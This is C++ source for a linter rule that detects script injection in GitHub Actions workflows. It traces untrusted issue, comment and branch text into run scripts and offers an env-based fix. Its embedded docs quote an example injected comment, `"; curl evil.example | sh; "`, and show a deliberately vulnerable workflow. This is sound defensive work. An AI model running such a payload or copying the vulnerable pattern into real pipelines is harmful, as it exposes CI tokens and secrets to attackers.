// SPDX-License-Identifier: Apache-2.0
#include <optional>
#include <set>
#include <utility>

#include "analyzers/project/project.h"
#include "analyzers/workflow/model.h"
#include "analyzers/workflow/reading.h"
#include "analyzers/workflow/taint.h"
#include "analyzers/workflow/workflow_set.h"
#include "analyzers/workflow/yaml_edit.h"
#include "core/text.h"
#include "rules/workflow/pack.h"

namespace interlock::workflow {
namespace {

constexpr RuleInfo kInfo{
    .id = "script-injection",
    .summary = "Text that others write becomes part of a script",
    .since = "0.1.0",
    .category = Category::kWorkflow,
    .severity = Severity::kError,
    .fix = FixKind::kUnsafe,
    .security_severity = "9.3",
    .tags = "github-actions security injection",
    .peers =
        "actionlint:expression zizmor:template-injection "
        "poutine:injection octoscan:expression-injection "
        "scorecard:Dangerous-Workflow",
    .docs = R"(## What it does
Reports `${{ }}` in `run`, and in inputs of actions that take a script, that
puts in the title or body of an issue, a comment, a branch name, a commit
message or an input of a manual start. The text is followed through `env`,
outputs of steps and jobs, matrices, and what workflows and actions of this
repository take and hand back. Only what reaches the script's text counts:
`contains(github.event.comment.body, 'x')` gives true or false.

## Why is this bad?
The text is pasted into the script before the shell reads it. A comment such as
`"; curl evil.example | sh; "` then runs with the job's token and secrets.

```yaml,bad
on: issue_comment
permissions: {}
jobs:
  bot:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.comment.body }}"
```

```yaml,good
on: issue_comment
permissions: {}
jobs:
  bot:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$BODY"
        env:
          BODY: ${{ github.event.comment.body }}
```

## How to fix it
The fix puts the expression into `env` of the step and the variable into the
script, in quotes. Where the shell is not one that interlock reads, or the
expression stands in a comment, there is none.

## When the facts are not known
What an action of another repository gives out is taken for harmless, but for a
few that are known to give out names which others chose.
)"};
static_assert(WellFormed(kInfo));

// Inputs that are scripts.
struct ScriptInput {
  std::string_view action;
  std::string_view input;
};
constexpr ScriptInput kScriptInputs[] = {
    {"actions/github-script", "script"},
    {"azure/cli", "inlineScript"},
    {"azure/powershell", "inlineScript"},
    {"nick-fields/retry", "command"},
    {"nick-invision/retry", "command"},
    {"appleboy/ssh-action", "script"},
    {"addnab/docker-run-action", "run"},
    {"jannekem/run-python-script-action", "script"},
    {"reactivecircus/android-emulator-runner", "script"},
    {"amadevus/pwsh-script", "script"},
    {"cloudposse/github-action-yaml-query", "query"},
};

std::string VariableFor(std::string_view path) {
  std::string name;
  auto parts = Split(path, '.');
  std::string_view last = parts.back();
  // `title` alone would hide what it is the title of.
  for (char c : last) {
    bool letter = c >= 'a' && c <= 'z';
    if (letter) c = static_cast<char>(c - 'a' + 'A');
    bool fits = IsDigit(c) || (c >= 'A' && c <= 'Z');
    name += fits ? c : '_';
  }
  if (name.empty() || IsDigit(name[0])) name = "INPUT_" + name;
  if (name == "PATH" || name == "HOME" || name == "ENV") name += "_TEXT";
  return name;
}

// The part of a word that an expression is, wherever it stands.
const shell::Part* FindPart(std::span<const shell::Part> parts, Span span) {
  for (const shell::Part& part : parts) {
    if (part.kind == shell::PartKind::kExpression && part.span == span) {
      return &part;
    }
    if (const shell::Part* found = FindPart(part.inner, span)) return found;
  }
  return nullptr;
}

struct Found {
  const shell::Part* part = nullptr;
  bool in_document = false;
};

Found FindIn(const shell::Script& script, Span span) {
  for (const shell::List& list : script.lists) {
    for (const shell::Item& item : list.items) {
      for (const shell::Command& command : item.pipeline.commands) {
        for (const shell::Word& word : command.words) {
          if (auto* part = FindPart(word.parts, span)) return {part, false};
        }
        for (const shell::Assignment& one : command.assignments) {
          if (auto* part = FindPart(one.value.parts, span)) {
            return {part, false};
          }
        }
        for (const shell::Redirect& one : command.redirects) {
          if (auto* part = FindPart(one.target->parts, span)) {
            return {part, true};
          }
        }
      }
    }
  }
  return {};
}

// What takes the expression's place; "" when nothing may.
std::string InPlace(const Found& found, const std::string& name) {
  if (found.part == nullptr || found.in_document) return "";
  switch (found.part->quote) {
    case shell::Quote::kNone:
      return "\"${" + name + "}\"";
    case shell::Quote::kDouble:
      return "${" + name + "}";
    case shell::Quote::kSingle:
      return "'\"${" + name + "}\"'";
    case shell::Quote::kHereDocument:
      return "";
  }
  return "";
}

void AddFix(const Body& body, const RunScript& run, const Tainted& tainted,
            Span piece, FindingBuilder& report) {
  if (run.text == nullptr || run.assumed) return;
  std::string_view text = run.step->run.text;
  std::string expression(piece.In(text));
  if (expression.find_first_of("\n\"") != std::string::npos) return;
  std::string name = VariableFor(tainted.path);
  const Variable* there = run.step->env.Find(name);
  for (int i = 2; there != nullptr && there->value.text != expression; ++i) {
    name = VariableFor(tainted.path) + "_" + std::to_string(i);
    there = run.step->env.Find(name);
  }
  std::string placed = InPlace(FindIn(run.text->script, piece), name);
  if (placed.empty() || run.step->run.node->alias_of != nullptr) return;
  bool quoted = run.step->run.node->style == ScalarStyle::kSingle ||
                run.step->run.node->style == ScalarStyle::kDouble;
  if (quoted) return;
  Fix fix{"hand it over in env", FixKind::kUnsafe, {}, {}};
  Span span = run.Place(piece);
  if (body.source->Text(span) != expression) return;
  if (there == nullptr) {
    auto edit = AddToMapping(*body.source, *run.step->node, "env", "run",
                             name + ": " + expression);
    if (!edit) return;
    fix.edits.push_back(std::move(*edit));
  }
  // A plain scalar that begins with a quote would be another one.
  bool first = run.step->run.node->plain() && piece.begin == 0;
  if (first) return;
  fix.edits.push_back({body.source, span, placed});
  report.With(std::move(fix));
}

class Injection {
 public:
  Injection(const Project& project, Sink& out)
      : taint_(*project.workflows), out_(out) {}

  void Look(const Body& body) {
    for (const Step& step : *body.steps) {
      if (step.run.present()) Judge(body, step, step.run);
      for (const ScriptInput& one : kScriptInputs) {
        if (!UsesAction(step, one.action)) continue;
        const Variable* script = step.with.Find(one.input);
        if (script != nullptr) Judge(body, step, script->value);
      }
    }
  }

 private:
  void Judge(const Body& body, const Step& step, const Text& script) {
    if (!HasExpression(script.text)) return;
    Template parsed = ParseTemplate(script.text);
    std::optional<ScalarMap> map;
    for (const Piece& piece : parsed.pieces) {
      if (!piece.is_expression) continue;
      auto tainted = taint_.Of(piece.expression, {&body, &step});
      if (!tainted) continue;
      // What a starter types is told once per way, not at each of its ends.
      if (tainted->author == Author::kStarter && !tainted->hops.empty()) {
        auto way = std::make_pair(body.source, tainted->path);
        if (!told_.insert(way).second) continue;
      }
      if (!map) map.emplace(*script.node, body.source->text());
      Report(body, step, script, piece.span, map->At(piece.span), *tainted);
    }
  }

  void Report(const Body& body, const Step& step, const Text& script,
              Span piece, Span place, const Tainted& tainted) {
    bool starter = tainted.author == Author::kStarter;
    std::string written = Printable(piece.In(script.text));
    bool direct = tainted.hops.empty();
    std::string name = VariableFor(tainted.path);
    auto report =
        out_.ReportIn(*body.source, place,
                      "'{}' is pasted into the script, and {} chooses it",
                      direct ? Printable(tainted.path)
                             : written + "' from '" + Printable(tainted.path),
                      starter ? "whoever starts the workflow" : "anybody");
    report.Help("put it into env as {} and use \"${}\" in the script", name,
                name);
    for (const Hop& hop : tainted.hops) {
      report.Related(*hop.source, hop.span, hop.message);
    }
    if (starter) report.At(Severity::kWarning).Sure(Confidence::kMedium);
    const RunScript* run = body.ScriptOf(step);
    if (run != nullptr && &script == &step.run) {
      AddFix(body, *run, tainted, piece, report);
    }
  }

  Taint taint_;
  Sink& out_;
  std::set<std::pair<const Source*, std::string>> told_;
};

void Examine(const Project& project, const Context&, Sink& out) {
  Injection injection(project, out);
  for (const Body& body : project.workflows->bodies) injection.Look(body);
}

}  // namespace

extern constexpr Rule kScriptInjection = On<Project, Examine>(kInfo);

}  // namespace interlock::workflow
